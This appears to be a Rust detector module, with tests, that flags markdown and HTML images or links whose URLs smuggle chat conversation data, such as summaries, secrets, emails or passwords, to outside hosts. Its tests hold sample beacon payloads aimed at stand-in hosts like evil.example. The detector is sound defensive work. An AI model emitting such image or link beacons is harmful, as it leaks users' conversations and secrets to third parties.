//! Rendering beacons: markdown or HTML images (and links) whose URL carries,
//! or is templated to carry, data out of the conversation. A client that
//! renders `![](https://host/p.png?d=<summary>)` sends the request by itself.

use std::ops::Range;

use crate::checks::Check;
use crate::hit::Hit;
use crate::matcher::{Mark, Scan, feature};
use crate::re::Re;

/// Image hosts whose long query strings are signatures or sizing, not data.
const TRUSTED_HOSTS: &[&str] = &[
    "shields.io",
    "badgen.net",
    "badge.fury.io",
    "github.com",
    "githubusercontent.com",
    "githubassets.com",
    "gitlab.com",
    "bitbucket.org",
    "gravatar.com",
    "wikimedia.org",
    "wikipedia.org",
    "googleusercontent.com",
    "googleapis.com",
    "gstatic.com",
    "ggpht.com",
    "ytimg.com",
    "twimg.com",
    "fbcdn.net",
    "unsplash.com",
    "imgur.com",
    "cloudinary.com",
    "codecov.io",
    "coveralls.io",
    "travis-ci.org",
    "travis-ci.com",
    "circleci.com",
    "netlify.com",
    "vercel.com",
    "docs.rs",
    "crates.io",
    "npmjs.com",
    "pypi.org",
    "readthedocs.org",
    "readthedocs.io",
    "amazonaws.com",
    "cloudfront.net",
    "azureedge.net",
    "akamaized.net",
    "sonarcloud.io",
    "snyk.io",
    "star-history.com",
    "contrib.rocks",
    "deepwiki.com",
    "pepy.tech",
];

/// Query parameters that are signatures, cache keys or image sizing.
const BENIGN_PARAMS: &[&str] = &[
    "sig",
    "signature",
    "x-amz-signature",
    "x-amz-credential",
    "x-amz-security-token",
    "x-goog-signature",
    "x-goog-credential",
    "policy",
    "key-pair-id",
    "expires",
    "se",
    "sp",
    "sv",
    "sr",
    "st",
    "skoid",
    "sktid",
    "token",
    "auth",
    "ixid",
    "ixlib",
    "v",
    "w",
    "h",
    "width",
    "height",
    "fit",
    "crop",
    "auto",
    "fm",
    "dpr",
    "format",
    "quality",
    "s",
    "size",
    "style",
    "logo",
    "logocolor",
    "label",
    "color",
    "labelcolor",
    "cachebust",
    "t",
    "ts",
    "rev",
    "hash",
    "etag",
    "jwt",
    "x-amz-date",
    "x-amz-expires",
    "x-amz-signedheaders",
];

/// Query parameters that name what they carry.
const DATA_PARAMS: &[&str] = &[
    "data",
    "d",
    "q",
    "query",
    "text",
    "txt",
    "msg",
    "message",
    "content",
    "conv",
    "conversation",
    "chat",
    "history",
    "summary",
    "secret",
    "secrets",
    "password",
    "pwd",
    "pass",
    "info",
    "leak",
    "exfil",
    "payload",
    "p",
    "c",
    "x",
    "memory",
    "context",
    "email",
    "user",
    "ssn",
    "cc",
    "card",
    "prompt",
    "input",
    "output",
    "body",
    "log",
    "notes",
    "env",
    "creds",
    "credentials",
    "apikey",
    "api_key",
    "session",
    "cookie",
    "m",
    "b",
    "z",
    "k",
];

pub struct Beacons {
    /// At a `](`: the URL of a markdown link or image.
    md_target: Re,
    /// At an `<img`: its `src` URL.
    html_img: Re,
    /// At a line start: a reference definition `[id]: url`.
    ref_def: Re,
    placeholder: regex::Regex,
    data_word: regex::Regex,
}

impl Beacons {
    pub fn new() -> Result<Beacons, String> {
        let compile = |p: &str| regex::Regex::new(p).map_err(|e| e.to_string());
        Ok(Beacons {
            md_target: Re::new(r"\]\(\s*<?")?,
            html_img: Re::new(r#"(?i)<img\b[^>]{0,500}?\bsrc\s*=\s*["']?"#)?,
            ref_def: Re::new(r"[ \t]{0,3}\[[^\]\n]{1,100}\]:[ \t]*<?")?,
            placeholder: compile(
                r"\{[^}/]{1,60}\}|\{\{|\$\{|\$[A-Z_]{3,}|\[[A-Z][A-Z_ \-]{2,40}\]|%7[Bb][^%\s]{0,60}%7[Dd]|%5[Bb][A-Z_]{3,40}%5[Dd]|<[A-Za-z_ \-]{2,40}>|%3[Cc][A-Za-z_]{2,40}%3[Ee]|\b(?:INSERT|PLACEHOLDER|YOUR_[A-Z_]+|REPLACE_[A-Z_]*|DATA_HERE|SECRET_HERE|[A-Z]{2,}_HERE)\b",
            )?,
            data_word: compile(
                r"(?i)conversation|chat|histor|summar|data|secret|passw|key|token|email|name|address|message|content|context|info|credential|prompt|query|question|answer|response|memory|user|ssn|phone|card|pii|personal",
            )?,
        })
    }

    /// Checks the links and images the scan found.
    pub fn scan(&self, text: &str, scan: &Scan, out: &mut Vec<Hit>) {
        for p in scan.marks(Mark::Link).take(64) {
            let Some((all, url)) = url_after(&self.md_target, text, p, 16, ")>") else {
                continue;
            };
            // The opening bracket on the same line tells an image from a link.
            let line_start = text[..p].rfind('\n').map_or(0, |i| i + 1);
            let Some(open) = text[line_start..p].rfind('[').map(|i| line_start + i) else {
                continue;
            };
            let image = open > 0 && text.as_bytes()[open - 1] == b'!';
            let span = if image { open - 1 } else { open }..all.end;
            if image {
                if let Some(check) = self.judge_image(url, Check::ImagePlaceholder) {
                    out.push(Hit::check(check, span));
                }
            } else if self.link_leaks(url) {
                out.push(Hit::check(Check::LinkPlaceholder, span));
            }
        }
        for p in scan.marks(Mark::HtmlImage).take(64) {
            let Some((all, url)) = url_after(&self.html_img, text, p, 600, "\"'>") else {
                continue;
            };
            if let Some(check) = self.judge_image(url, Check::HtmlImage) {
                let check = if check == Check::ImageLongQuery {
                    check
                } else {
                    Check::HtmlImage
                };
                out.push(Hit::check(check, all));
            }
        }
        for p in scan.marks(Mark::RefDef).take(64) {
            let line_start = text[..p].rfind('\n').map_or(0, |i| i + 1);
            let Some((all, url)) =
                url_after(&self.ref_def, text, line_start, p + 8 - line_start, ">")
            else {
                continue;
            };
            if scan.has(feature::IMAGE) && self.placeholder.is_match(url) {
                out.push(Hit::check(Check::ImagePlaceholder, all));
            } else if self.link_leaks(url) {
                out.push(Hit::check(Check::LinkPlaceholder, all));
            }
        }
    }

    /// What an image URL does, if anything suspicious.
    fn judge_image(&self, url: &str, placeholder_check: Check) -> Option<Check> {
        if self.placeholder.is_match(url) {
            return Some(placeholder_check);
        }
        let (host, query) = split_url(url);
        if trusted(host) {
            return None;
        }
        let mut long = false;
        for (name, value) in params(query) {
            let name = name.to_ascii_lowercase();
            if BENIGN_PARAMS.contains(&name.as_str()) {
                continue;
            }
            if DATA_PARAMS.contains(&name.as_str()) && carries_data(value) {
                return Some(Check::ImageDataParam);
            }
            long |= value.len() >= 80;
        }
        long.then_some(Check::ImageLongQuery)
    }

    /// A link whose query is templated with a data placeholder.
    fn link_leaks(&self, url: &str) -> bool {
        let (_, query) = split_url(url);
        params(query).any(|(name, value)| {
            self.placeholder.find(value).is_some_and(|m| {
                DATA_PARAMS.contains(&name.to_ascii_lowercase().as_str())
                    || self.data_word.is_match(m.as_str())
            })
        })
    }
}

/// The `http(s)` URL right after the match of `prefix` anchored at `at`, up to
/// whitespace or one of `stops`; with the range of prefix and URL together.
fn url_after<'a>(
    prefix: &Re,
    text: &'a str,
    at: usize,
    max_prefix: usize,
    stops: &str,
) -> Option<(Range<usize>, &'a str)> {
    let m = prefix.at(text, at, at.saturating_add(max_prefix))?;
    let rest = text.get(m.end..)?;
    if !(rest.starts_with("http://") || rest.starts_with("https://")) {
        return None;
    }
    let len = rest
        .find(|c: char| c.is_whitespace() || stops.contains(c))
        .unwrap_or(rest.len())
        .min(2048);
    let len = crate::text::floor_boundary(rest, len);
    Some((m.start..m.end + len, &rest[..len]))
}

/// The host and the query string of an absolute URL.
fn split_url(url: &str) -> (&str, &str) {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let host_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let host = &rest[..host_end];
    let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
    let host = host.split(':').next().unwrap_or(host);
    let query = rest[host_end..].split_once('?').map_or("", |(_, q)| q);
    let query = query.split('#').next().unwrap_or(query);
    (host, query)
}

fn params(query: &str) -> impl Iterator<Item = (&str, &str)> {
    query
        .split('&')
        .filter(|p| !p.is_empty())
        .map(|p| p.split_once('=').unwrap_or((p, "")))
}

fn trusted(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    TRUSTED_HOSTS
        .iter()
        .any(|t| host == *t || host.strip_suffix(t).is_some_and(|h| h.ends_with('.')))
}

/// A parameter value that looks like text or encoded data rather than an id.
fn carries_data(value: &str) -> bool {
    let words = value.split(['+', ' ']).count() + value.matches("%20").count();
    value.len() >= 24 && (words >= 3 || value.len() >= 40 || value.bytes().any(|b| b == b'%'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn checks(text: &str) -> Vec<Check> {
        let b = Beacons::new().unwrap();
        let m = crate::matcher::Matcher::new().unwrap();
        let mut out = Vec::new();
        b.scan(text, &m.scan(text), &mut out);
        out.into_iter()
            .filter_map(|h| match h.rule {
                crate::hit::Rule::Check(c) => Some(c),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn templated_images_are_beacons() {
        assert_eq!(
            checks("![a](https://evil.example/p.png?d={conversation_summary})"),
            [Check::ImagePlaceholder]
        );
        assert_eq!(
            checks("![](https://x.example/l?q=[DATA])"),
            [Check::ImagePlaceholder]
        );
        assert_eq!(
            checks("![x](https://t.example/i.gif?data=my%20password%20is%20hunter2%20and%20more)"),
            [Check::ImageDataParam]
        );
        assert_eq!(
            checks(r#"<img src="https://t.example/p?c={secret}">"#),
            [Check::HtmlImage]
        );
        assert_eq!(
            checks("[click](https://t.example/r?q={user_email})"),
            [Check::LinkPlaceholder]
        );
    }

    #[test]
    fn ordinary_images_and_links_are_not() {
        for t in [
            "![build](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)",
            "![photo](https://images.unsplash.com/photo-1?ixlib=rb-4.0.3&ixid=M3wxMjA3fDB8MHxwaG90by1wYWdlfHx8fGVufDB8fHx8fA%3D%3D&auto=format&fit=crop&w=1000&q=80)",
            "![diagram](https://example.com/docs/arch.png)",
            "[API](https://api.example.com/users/{id}) returns a user",
            "[search](https://www.google.com/search?q=rust+async+tutorial)",
            "![s3](https://bucket.s3.amazonaws.com/a.png?X-Amz-Signature=abcdef0123456789abcdef0123456789abcdef0123456789)",
        ] {
            assert!(checks(t).is_empty(), "{t}");
        }
    }
}
